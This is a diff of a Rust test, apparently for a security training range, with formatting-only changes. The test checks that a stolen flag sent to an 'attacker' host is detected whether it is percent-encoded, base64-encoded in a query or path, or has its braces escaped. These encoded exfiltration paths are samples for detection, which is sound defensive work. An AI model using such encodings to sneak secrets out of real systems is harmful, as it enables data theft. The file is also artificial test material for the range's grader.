@@ -91,9 +91,14 @@ async fn a_flag_that_reaches_the_attackers_site_is_noticed_however_it_is_written
             format!("/log?q={}", utf8_percent_encode(flag, NON_ALPHANUMERIC))
         }),
         ("bob", |flag| {
-            format!("/log?q={}", BASE64.encode(format!("letter={flag};").as_bytes()))
+            format!(
+                "/log?q={}",
+                BASE64.encode(format!("letter={flag};").as_bytes())
+            )
         }),
-        ("eve", |flag| format!("/{}", BASE64URL.encode(flag.as_bytes()))),
+        ("eve", |flag| {
+            format!("/{}", BASE64URL.encode(flag.as_bytes()))
+        }),
         ("joe", |flag| {
             format!("/log/{}/", flag.replace('{', "%7B").replace('}', "%7d"))
         }),
@@ -102,7 +107,12 @@ async fn a_flag_that_reaches_the_attackers_site_is_noticed_however_it_is_written
         let session = start_in(&range, learner, &Memory::new()).await;
         let mut events = session.events();
         let address = address(&stolen_flag(&session).await);
-        get(&session, "attacker", &format!("/log?nothing={}", "x".repeat(40))).await;
+        get(
+            &session,
+            "attacker",
+            &format!("/log?nothing={}", "x".repeat(40)),
+        )
+        .await;
         assert!(!task_done(&view(&session), "attack"));
         get(&session, "attacker", &address).await;
         let message = event(&mut events, "the task", |event| match event {
